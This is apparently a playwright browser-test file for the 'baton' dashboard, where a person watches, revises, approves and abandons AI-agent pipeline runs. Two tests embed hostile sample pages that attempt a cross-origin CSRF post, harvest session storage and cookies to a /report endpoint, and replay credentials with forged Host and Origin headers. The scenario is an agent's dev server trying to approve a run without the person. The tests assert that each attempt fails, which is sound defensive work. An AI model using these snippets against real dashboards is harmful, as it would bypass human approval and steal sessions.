// The dashboard in a real headless browser (Debian's chromium, driven by
// playwright-core): a person signs in with the link `baton dashboard`
// printed on its terminal, watches runs driven by other processes advance
// live, sends one back with `revise: <text>` (the text reaches the next
// agent's prompt), approves it to the end, abandons another run, and a
// page from another origin cannot act — nor can credentials replayed from
// a page on another loopback port (no cookie exists). Screenshots go to
// target/browser-tests/ (or $BROWSER_TEST_OUT).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, readFileSync, readdirSync, rmSync, existsSync } from 'node:fs';
import { createServer, request as httpRequest } from 'node:http';
import { dirname, join } from 'node:path';
import { batonBin, playwright, launch, makeRepo, startDashboard, baton, out, ROOT } from './harness.mjs';

let bin, repo, dash, browser, page;
const shot = (name) => page.screenshot({ path: out(name), fullPage: false });

before(async () => {
  bin = batonBin();
  const pw = await playwright();
  repo = makeRepo();
  dash = await startDashboard(bin, repo);
  browser = await launch(pw);
  page = await browser.context.newPage();
  page.on('pageerror', (e) => { throw e; });
});

after(async () => {
  if (browser) await browser.close();
  if (dash) await dash.stop();
  if (repo) rmSync(repo, { recursive: true, force: true });
});

function state(id) {
  return JSON.parse(readFileSync(join(repo, '.specs', id, 'state.json'), 'utf8'));
}
function runIds() {
  return existsSync(join(repo, '.specs')) ? readdirSync(join(repo, '.specs')).filter((n) => /^\d{8}-/.test(n)) : [];
}

test('a person watches, revises, approves and abandons runs driven by other processes', async () => {
  // The link printed on the terminal signs this browser in, once.
  await page.goto(dash.signIn);
  await page.locator('[data-testid=session]').filter({ hasText: 'signed in' }).waitFor();
  await page.locator('[data-testid=live]').filter({ hasText: 'live' }).waitFor();
  assert.equal(new URL(page.url()).hash, '', 'the key leaves the address bar');
  await shot('01-signed-in-empty.png');

  // Another process drives a run; it stops at the first checkpoint (no
  // terminal to answer on). The open page learns of it over SSE.
  const first = await baton(bin, repo, ['run', 'Add a greeting feature', '--effort', 'M', '--nopr', '--agent', 'builtin:scripted']);
  assert.equal(first.code, 3, 'the run stops at checkpoint-a');
  assert.match(first.stderr, /checkpoint-a waits for your answer/);
  const [runA] = runIds();
  const row = page.locator(`[data-run="${runA}"]`);
  await row.waitFor();
  await row.locator('[data-testid=row-status]').filter({ hasText: 'waiting for you' }).waitFor();
  const activity = await page.locator('[data-testid=activity] li').allTextContents();
  for (const kind of ['phase-start', 'agent-dispatch', 'phase-complete', 'checkpoint']) {
    assert.ok(activity.some((t) => t.includes(kind)), `${kind} arrived live: ${activity.join(' | ')}`);
  }

  // The run at a glance: the question's full text and options, the phase
  // graph with the current position, artifacts rendered from Markdown.
  await row.click();
  assert.equal(new URL(page.url()).pathname, `/runs/${runA}`);
  const question = page.locator('[data-testid=question]');
  await question.waitFor();
  assert.match(await question.textContent(), /Design Checkpoint[\s\S]*design\.md[\s\S]*review-design\.md/);
  assert.deepEqual(await question.locator('.q-options button').evaluateAll((bs) => bs.map((b) => b.dataset.answer)), ['proceed', 'revise', 'abandon']);
  assert.equal(await page.locator('.phase-graph [data-phase="checkpoint-a"]').getAttribute('data-state'), 'waiting');
  assert.equal(await page.locator('.phase-graph [data-phase="phase-3"]').getAttribute('data-state'), 'done');
  assert.equal(await page.locator('.phase-graph [data-phase="phase-4b"]').getAttribute('data-state'), 'skipped');
  await page.locator('[data-artifact="design.md"]').click();
  const view = page.locator('[data-testid=artifact-view]');
  await view.locator('h1', { hasText: 'Design' }).waitFor();
  assert.ok(await view.locator('h2').count() >= 1, 'Markdown headings are rendered');
  await shot('02-checkpoint-waiting.png');

  // revise: <text> from the dashboard…
  const feedback = 'Split the greeting into its own module and keep the API unchanged';
  await page.locator('#revise-text').fill(feedback);
  await page.locator('[data-answer=revise]').click();
  await page.locator('#notice', { hasText: 'recorded as person:dashboard' }).waitFor();
  await question.waitFor({ state: 'hidden' });
  await page.locator('.feedback-line', { hasText: feedback }).waitFor();
  const revised = state(runA);
  const answer = revised.answers.at(-1);
  assert.equal(answer.answer, 'revise');
  assert.equal(answer.feedback, feedback);
  assert.deepEqual(answer.by, { who: 'person', channel: 'dashboard' });
  assert.equal(revised.currentPhase, 'phase-3');

  // …reaches the next agent's prompt: the agent command saves its prompt
  // (and fails, so the run stops there).
  const prompt = join(repo, 'architect-prompt.txt');
  const capture = await baton(bin, repo, ['run', `.specs/${runA}`, '--nopr', '--agent', `cat > "${prompt}"; exit 3`]);
  assert.notEqual(capture.code, 0);
  const text = readFileSync(prompt, 'utf8');
  assert.match(text, /## Human Feedback/);
  assert.ok(text.includes(feedback), 'the revision text is in the architect prompt');
  rmSync(prompt);

  // The failed agent is recorded: the design phase shows as failed. The
  // scripted agent takes the run on; the page follows it live back to the
  // checkpoint, the design redone.
  await page.locator('.phase-graph [data-phase="phase-3"][data-state="failed"]').waitFor();
  const again = await baton(bin, repo, ['run', `.specs/${runA}`, '--nopr', '--agent', 'builtin:scripted']);
  assert.notEqual(again.code, 0);
  await question.waitFor();
  assert.equal(await page.locator('.phase-graph [data-phase="phase-3"]').getAttribute('data-state'), 'done');
  // Three starts: the first design, the revision whose agent failed, the redo.
  assert.match(await page.locator('.phase-graph [data-phase="phase-3"] text.sub').textContent(), /3×/);

  // Approve, and let the scripted agent finish the run: tasks, reviews, commit.
  await page.locator('[data-answer=proceed]').click();
  await question.waitFor({ state: 'hidden' });
  // Nothing drives the run now: the page says so, with the command that
  // resumes it (the agent it ran with), never a tool call for an agent.
  const next = page.locator('.next-step');
  await next.filter({ hasText: 'Nothing is driving it now' }).waitFor();
  assert.ok((await next.textContent()).includes(`baton run .specs/${runA} --agent builtin:scripted`), await next.textContent());
  assert.doesNotMatch(await next.textContent(), /pipeline_next_action/);
  const rest = await baton(bin, repo, ['run', `.specs/${runA}`, '--nopr', '--agent', 'builtin:scripted']);
  assert.equal(rest.code, 0, rest.stderr);
  await page.locator('[data-testid=run-status]', { hasText: 'completed' }).waitFor();
  await page.locator('.task-graph [data-task="3"][data-state="done"]').waitFor();
  assert.equal(await page.locator('[data-testid=tasks] tbody tr').count(), 3);
  await page.locator('[data-testid=timeline] li[data-what=answer]', { hasText: 'person:dashboard' }).first().waitFor();
  await shot('03-completed-with-tasks.png');

  // Another run, abandoned from the dashboard.
  const second = await baton(bin, repo, ['run', 'Fix the login timeout', '--effort', 'S', '--nopr', '--agent', 'builtin:scripted']);
  assert.notEqual(second.code, 0);
  const runB = runIds().find((id) => id !== runA);
  await page.locator(`[data-run="${runB}"]`).click();
  await page.locator('[data-testid=question]').waitFor();
  await page.locator('[data-testid=abandon]').click();
  await page.locator('.abandon-reason').fill('not needed any more');
  await page.locator('[data-testid=abandon-confirm]').click();
  await page.locator('[data-testid=run-status]', { hasText: 'abandoned' }).waitFor();
  const abandoned = state(runB);
  assert.equal(abandoned.currentPhaseStatus, 'abandoned');
  assert.deepEqual(abandoned.answers.at(-1).by, { who: 'person', channel: 'dashboard' });
  assert.equal(abandoned.answers.at(-1).answer, 'abandon');
  await page.locator('[data-filter=abandoned]').click();
  // The run is in the list before the filter applies too: wait for the filtered page.
  await page.locator('#range', { hasText: '1–1 of 1' }).waitFor();
  await page.locator(`[data-run="${runB}"]`).waitFor();
  assert.equal(await page.locator('#run-list [data-run]').count(), 1);
  await shot('04-abandoned.png');

  // The page stays within budget: ≤ 150 KB for the page, its script and style.
  const bytes = await page.evaluate(async () => {
    let total = 0;
    for (const p of ['/', '/assets/app.js', '/assets/app.css']) total += (await (await fetch(p)).arrayBuffer()).byteLength;
    return total;
  });
  console.log(`page weight: ${bytes} bytes (${(bytes / 1024).toFixed(1)} KiB)`);
  assert.ok(bytes <= 150 * 1024, `${bytes} bytes`);
});

test('a page from another origin cannot act, and a person without the link cannot either', async () => {
  // A run waiting at its checkpoint.
  const r = await baton(bin, repo, ['run', 'Rename the config flag', '--effort', 'S', '--nopr', '--agent', 'builtin:scripted']);
  assert.notEqual(r.code, 0);
  const id = runIds().find((n) => n.includes('rename-the-config-flag'));
  // The signed-in person's view of it, beside the finished and the abandoned run.
  await page.goto(`${dash.url}/runs/${id}`);
  await page.locator('[data-testid=question]').waitFor();
  await page.locator('[data-filter=all]').click();
  await page.locator('#range', { hasText: 'of 3' }).waitFor();
  await shot('06-three-runs-one-waiting.png');
  if (process.env.BATON_README_SCREENSHOT) {
    const target = join(ROOT, process.env.BATON_README_SCREENSHOT);
    mkdirSync(dirname(target), { recursive: true });
    copyFileSync(out('06-three-runs-one-waiting.png'), target);
  }
  // An evil page on another port posts to the dashboard with the person's browser.
  const evil = createServer((_, res) => {
    res.setHeader('content-type', 'text/html');
    res.end(`<script>
      window.result = fetch(${JSON.stringify(dash.url)} + '/api/runs/${id}/answer', {
        method: 'POST', credentials: 'include', mode: 'no-cors',
        headers: { 'content-type': 'text/plain' },
        body: JSON.stringify({ question: 'checkpoint-a', answer: 'proceed' }),
      }).then(() => 'sent', (e) => 'blocked: ' + e.message);
    </script>`);
  });
  await new Promise((ok) => evil.listen(0, '127.0.0.1', ok));
  const evilPage = await browser.context.newPage();
  await evilPage.goto(`http://127.0.0.1:${evil.address().port}/`);
  await evilPage.evaluate(() => window.result);
  evil.close();
  assert.equal(state(id).currentPhaseStatus, 'awaiting_human', 'the cross-site request changed nothing');

  // A fresh browser profile (no session) sees the run but cannot answer.
  const pw = await playwright();
  const stranger = await launch(pw);
  const p = await stranger.context.newPage();
  await p.goto(`${dash.url}/runs/${id}`);
  await p.locator('[data-testid=question]').waitFor();
  await p.locator('[data-testid=session]', { hasText: 'read-only' }).waitFor();
  assert.ok(await p.locator('[data-answer=proceed]').isDisabled());
  const how = await p.locator('.q-how').textContent();
  assert.ok(how.includes(`baton answer .specs/${id} proceed`), how);
  assert.doesNotMatch(how, /pipeline_next_action|user_response/, 'text for a person, not for an agent');
  const status = await p.evaluate(async (run) => (await fetch(`/api/runs/${run}/answer`, {
    method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ question: 'checkpoint-a', answer: 'proceed' }),
  })).status, id);
  assert.equal(status, 403);
  // The printed link was used once already: it signs nobody else in.
  await p.goto(dash.signIn);
  await p.locator('#notice', { hasText: 'already used' }).waitFor();
  await p.screenshot({ path: out('05-read-only-stranger.png') });
  await stranger.close();
  assert.equal(state(id).currentPhaseStatus, 'awaiting_human');
});

test('the stats view and a run\'s summary show the run history\'s numbers', async () => {
  // What `baton stats --json` says: one run completed (sent back once at
  // its design checkpoint), one abandoned; the third still waits.
  const cli = await baton(bin, repo, ['stats', '--json']);
  assert.equal(cli.code, 0, cli.stderr);
  const d = JSON.parse(cli.stdout).dashboard;
  assert.deepEqual([d.runs, d.completed, d.abandoned], [2, 1, 1]);

  await page.goto(`${dash.url}/`);
  await page.locator('[data-testid=stats-tab]').click();
  const stats = page.locator('[data-testid=stats]');
  await stats.waitFor();
  assert.equal(new URL(page.url()).pathname, '/stats');
  const stat = (key) => stats.locator(`[data-stat=${key}]`).textContent();
  assert.equal(await stat('runs'), String(d.runs));
  assert.equal(await stat('completed'), String(d.completed));
  assert.equal(await stat('abandoned'), String(d.abandoned));
  assert.equal(await stat('first_pass_rate'), '0%', 'the completed run went back once');
  assert.equal(await stat('cost_usd'), `$${d.cost_usd.toFixed(2)}`);
  // (The scripted agent reports no tokens: none is shown as a dash.)
  assert.equal(await stat('tokens'), d.tokens ? d.tokens.toLocaleString('en-US') : '—');
  const phases = stats.locator('[data-testid=stats-phase] tbody tr');
  assert.equal(await phases.count(), d.by_phase.length);
  // Numbers sit right-aligned under right-aligned headers.
  const aligns = await stats.locator('[data-testid=stats-phase] thead th').evaluateAll((ths) => ths.map((t) => getComputedStyle(t).textAlign));
  assert.deepEqual(aligns.slice(0, 6), ['left', 'right', 'right', 'right', 'right', 'right']);
  const cells = await stats.locator('[data-testid=stats-phase] tbody tr:first-child td').evaluateAll((tds) => tds.map((t) => getComputedStyle(t).textAlign));
  assert.deepEqual(cells.slice(0, 6), aligns.slice(0, 6));
  const design = d.by_phase.find((p) => p.phase === 'phase-3');
  assert.equal(await stats.locator('[data-testid=stats-phase] tr[data-phase="phase-3"] td:nth-child(3)').textContent(), String(design.visits));
  assert.equal(await stats.locator('[data-testid=stats-effort] tbody tr').count(), d.by_effort.length);
  await shot('07-stats.png');

  // Back to a run: its summary from the history — the person's revise is
  // its one revision loop; the scripted reviews' MINOR findings count.
  const done = runIds().find((n) => n.includes('add-a-greeting-feature'));
  await page.locator(`[data-run="${done}"]`).click();
  await stats.waitFor({ state: 'detached' });
  const insights = page.locator('[data-testid=insights]');
  await insights.waitFor();
  assert.equal(await insights.locator('[data-summary="revision loops"]').textContent(), '1');
  assert.match(await insights.locator('[data-summary=findings]').textContent(), /^0 CRITICAL, [1-9]\d* MINOR$/);
  assert.match(await insights.locator('[data-summary=cost]').textContent(), /^\$\d+\.\d\d$/);
  // Its design reviewer's prompt carries the scripted reviews' finding.
  const reviewer = insights.locator('[data-testid=review-patterns] [data-agent=design-reviewer]');
  assert.match(await reviewer.textContent(), /Consider logging the new path 2× · MINOR/);
  await insights.scrollIntoViewIfNeeded();
  await shot('08-run-summary.png');
  // One duration for the run, not three.
  const facts = await page.locator('.facts dt').allTextContents();
  assert.ok(facts.includes('time'), facts.join(', '));
  for (const gone of ['elapsed', 'reported time', 'wall time', 'agent work']) assert.ok(!facts.includes(gone), `${gone}: ${facts.join(', ')}`);
  // The stats view is a link of its own.
  await page.goto(`${dash.url}/stats`);
  assert.equal(await page.locator('[data-testid=stats] [data-stat=runs]').textContent(), String(d.runs));

  // Requests like the completed one: an estimate needs three similar ended
  // runs, and it names them as links (it read "Most similar: ,http://…"
  // when the links were turned to text).
  for (const where of ['footer', 'login page']) {
    const more = await baton(bin, repo, ['run', `Add a greeting feature to the ${where}`, '--effort', 'S', '--nopr', '--auto', '--agent', 'builtin:scripted']);
    assert.equal(more.code, 0, more.stderr);
  }
  const like = await baton(bin, repo, ['run', 'Add a greeting feature to the help page', '--effort', 'S', '--nopr', '--agent', 'builtin:scripted']);
  assert.equal(like.code, 3, like.stderr);
  const likeId = runIds().find((n) => n.includes('greeting-feature-to-the-help'));
  await page.goto(`${dash.url}/runs/${likeId}`);
  const estimate = page.locator('[data-testid=insights] .estimate');
  await estimate.locator('a').first().waitFor();
  const estimateText = await estimate.textContent();
  assert.match(estimateText, /Most similar: \d{8}-/, estimateText);
  assert.doesNotMatch(estimateText, /http|: ,|, ,/, estimateText);
  assert.equal(await estimate.locator(`a[href="/runs/${done}"]`).count(), 1, estimateText);
});

test('a failed agent shows as a failed run, with its exit status and how to resume', async () => {
  const r = await baton(bin, repo, ['run', 'Fix the flaky upload test', '--effort', 'S', '--nopr', '--auto', '--agent', 'echo upload service down >&2; exit 3']);
  assert.equal(r.code, 2, r.stderr);
  const id = runIds().find((n) => n.includes('fix-the-flaky-upload-test'));
  await page.goto(`${dash.url}/`);
  await page.locator('[data-filter=failed]').click();
  await page.locator('#range', { hasText: '1–1 of 1' }).waitFor();
  const row = page.locator(`[data-run="${id}"]`);
  await row.locator('[data-testid=row-status]', { hasText: 'failed' }).waitFor();
  await row.click();
  await page.locator('[data-testid=run-status]', { hasText: 'failed' }).waitFor();
  const error = await page.locator('.error-line').textContent();
  assert.match(error, /exited with status 3/);
  assert.match(error, /upload service down/);
  const next = await page.locator('.next-step').textContent();
  assert.ok(next.includes(`baton run .specs/${id} --agent 'echo upload service down >&2; exit 3'`), next);
  // Skipped phases are not counted as done: it failed at its first phase.
  const facts = await page.locator('.facts div').allTextContents();
  const progress = facts.find((f) => f.startsWith('progress')) || '';
  assert.match(progress, /^progress0 of \d+ phases done \(\d+ skipped\)$/, facts.join(' | '));
  await shot('09-failed-run.png');
});

test('ended runs whose files left with their branch stay listed, with the branch', async () => {
  // The completed runs were committed on the greeting feature's branch;
  // back on main their folders are gone from the checkout.
  const { execFileSync } = await import('node:child_process');
  const branch = execFileSync('git', ['branch', '--show-current'], { cwd: repo }).toString().trim();
  assert.notEqual(branch, 'main');
  execFileSync('git', ['checkout', '-q', 'main'], { cwd: repo });
  await page.goto(`${dash.url}/`);
  await page.locator('[data-filter=all]').click();
  const away = page.locator('[data-testid=elsewhere]');
  await away.waitFor();
  const done = 'add-a-greeting-feature';
  const row = away.locator('li').filter({ hasText: new RegExp(`-${done}$|${done}\\b`) }).first();
  await row.waitFor();
  assert.match(await row.textContent(), new RegExp(`completed.*on branch ${branch.replace(/[/]/g, '\\/')}: git checkout`));
  assert.equal(await page.locator('#run-list [data-run*="add-a-greeting-feature-to-the-footer"]').count(), 0, 'not in the checkout any more');
  await shot('10-other-branches.png');
  execFileSync('git', ['checkout', '-q', branch], { cwd: repo });
});

test('credentials replayed from a page on another loopback port give no session, no CSRF token, no answer', async () => {
  // A run waiting at its checkpoint; the person's tab is signed in.
  const r = await baton(bin, repo, ['run', 'Replay the session', '--effort', 'S', '--nopr', '--agent', 'builtin:scripted']);
  assert.notEqual(r.code, 0);
  const id = runIds().find((n) => n.includes('replay-the-session'));
  await page.goto(`${dash.url}/runs/${id}`);
  await page.locator('[data-testid=session]', { hasText: 'signed in' }).waitFor();
  await page.locator('[data-testid=question]').waitFor();
  // The flow set no cookie: the session lives in the tab's sessionStorage,
  // which only the dashboard's origin (its port included) can read.
  const jar = await browser.context.cookies();
  assert.deepEqual(jar, [], `no cookie: ${JSON.stringify(jar)}`);
  assert.ok(await page.evaluate(() => sessionStorage.getItem('baton-session')), 'the tab keeps its session');

  // The agent's dev server on another loopback port: the person opens its
  // page in the same browser. It records every request it gets (a cookie
  // for 127.0.0.1 would arrive here: cookies ignore ports).
  const seen = [];
  const evil = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => { body += c; });
    req.on('end', () => {
      seen.push({ url: req.url, cookie: req.headers.cookie || '', body });
      res.setHeader('content-type', 'text/html');
      res.end(`<script>
        (async () => {
          const found = { storage: sessionStorage.getItem('baton-session'), local: localStorage.getItem('baton-session'), cookie: document.cookie };
          try {
            const r = await fetch(${JSON.stringify(dash.url)} + '/api/session', { credentials: 'include' });
            found.read = await r.text();
          } catch (e) { found.read = 'blocked: ' + e.message; }
          await fetch('/report', { method: 'POST', body: JSON.stringify(found) });
          window.done = true;
        })();
      </script>`);
    });
  });
  await new Promise((ok) => evil.listen(0, '127.0.0.1', ok));
  const evilPage = await browser.context.newPage();
  await evilPage.goto(`http://127.0.0.1:${evil.address().port}/`);
  await evilPage.waitForFunction(() => window.done === true);
  await evilPage.close();
  evil.close();
  const report = JSON.parse(seen.find((s) => s.url === '/report').body);
  assert.equal(report.storage, null, 'another port cannot read the session');
  assert.equal(report.local, null);
  assert.equal(report.cookie, '');
  assert.match(report.read, /^blocked/, `cross-origin reads are blocked: ${report.read}`);
  const received = seen.map((s) => s.cookie).filter(Boolean);
  assert.deepEqual(received, [], 'no baton credential reached the other port');

  // The agent replays whatever it has — the browser's cookies, what its
  // server received — with a forged Host and Origin, from another client.
  const replay = (method, path, body) => new Promise((ok, fail) => {
    const { port } = new URL(dash.url);
    const headers = {
      Host: `127.0.0.1:${port}`, Origin: dash.url, 'Sec-Fetch-Site': 'same-origin',
      Cookie: [...jar.map((c) => `${c.name}=${c.value}`), ...received].join('; '),
    };
    if (body) { headers['Content-Type'] = 'application/json'; headers['Content-Length'] = Buffer.byteLength(body); }
    const q = httpRequest({ host: '127.0.0.1', port, path, method, headers }, (res) => {
      let text = ''; res.on('data', (c) => { text += c; }); res.on('end', () => ok({ status: res.statusCode, text }));
    });
    q.on('error', fail);
    if (body) q.write(body);
    q.end();
  });
  const probe = await replay('GET', '/api/session');
  const p = JSON.parse(probe.text);
  assert.equal(p.signedIn, false);
  assert.equal(p.canAct, false);
  assert.ok(!p.csrf && !p.eventsTicket, `no CSRF token or ticket: ${probe.text}`);
  const answer = await replay('POST', `/api/runs/${id}/answer`, JSON.stringify({ question: 'checkpoint-a', answer: 'proceed' }));
  assert.equal(answer.status, 403, answer.text);
  assert.equal(state(id).currentPhaseStatus, 'awaiting_human');
  assert.equal((state(id).answers || []).length, 0);

  // The person's own tab still answers.
  await page.locator('[data-answer=proceed]').click();
  await page.locator('[data-testid=question]').waitFor({ state: 'hidden' });
  assert.deepEqual(state(id).answers.at(-1).by, { who: 'person', channel: 'dashboard' });
});
